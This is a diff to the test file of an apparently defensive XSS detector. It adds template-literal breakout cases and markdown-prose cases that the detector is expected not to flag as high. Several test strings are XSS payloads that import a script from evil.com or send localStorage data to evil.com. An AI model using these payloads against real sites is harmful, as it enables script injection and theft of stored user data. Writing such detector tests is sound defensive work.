@@ -1553,6 +1553,9 @@ t.test('breakouts through a conditional, in / instanceof, and template-literal c
     "${location='//evil.com'}",
     "${window.location.replace('//evil.com')}",
     "${location.href = '//evil.com'}",
+    // An escaped backtick keeps the enclosing literal open (review rB's prose exemption excludes it).
+    "\\`${import('//evil.com/x.js')}",
+    "x\\`${fetch('//evil.com/?'+localStorage.t)}",
     // The string's own text before the closing quote.
     "a';import('//evil.com/x.js')//",
     "abc\\';fetch('//evil.com/'+localStorage.t)//",
@@ -1585,6 +1588,10 @@ t.test('breakouts through a conditional, in / instanceof, and template-literal c
     "two words';import(x)//",
     "';fetch(x)<!--\nmore",
     "'; see <!-- fetch(x) -->",
+    // Review rB: JS quoted in prose or markdown (a backtick opens the `${…}`), high at f7b8f6a.
+    'Use a template like `Hello ${user.name}` and never `${fetch(url)}` in template docs.',
+    "In tagged templates, `${import('./mod.js')}` is evaluated eagerly.",
+    "I'd write `${fetch('/api')}` — no, template literals don't await.",
   ];
   for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(detectXss(v))}`);
 });
@@ -1623,7 +1630,7 @@ t.test('template-literal code: the whole prefix x name x follower table against 
   // High: a TPL_CALLS name called, or `location` assigned / sent, at the start of `${…}` (after
   // blanks, `await` / `new` / `void`, one global root and `.`). (Planted: the root step dropped: 33
   // failures; `location==x` read as an assignment: 6.)
-  const PRE: [string, boolean][] = [['${', true], ['${ ', true], ['x ${', true], ['${await ', true], ['${new ', true], ['${window.', true], ['${navigator.', true], ['${user.', false], ['${ fn', false], ['${x+', false], ['{', false]];
+  const PRE: [string, boolean][] = [['${', true], ['${ ', true], ['x ${', true], ['${await ', true], ['${new ', true], ['${window.', true], ['${navigator.', true], ['${user.', false], ['${ fn', false], ['${x+', false], ['{', false], ['`${', false], ['a `${', false], ['\\`${', true]];
   const CALLS = ['import', 'fetch', 'eval', 'Function', 'sendBeacon', 'WebSocket', 'EventSource', 'alert', 'prompt', 'confirm'];
   const NAMES = [...CALLS, 'atob', 'fetchAll', 'setInterval', 'location', 'open', 'write'];
   const FOL = ['(x)}', '`x`}', ' (x)}', '}', '.href=x}', '=x}', '==x}', '.origin}', '.assign(x)}', '.href}'];
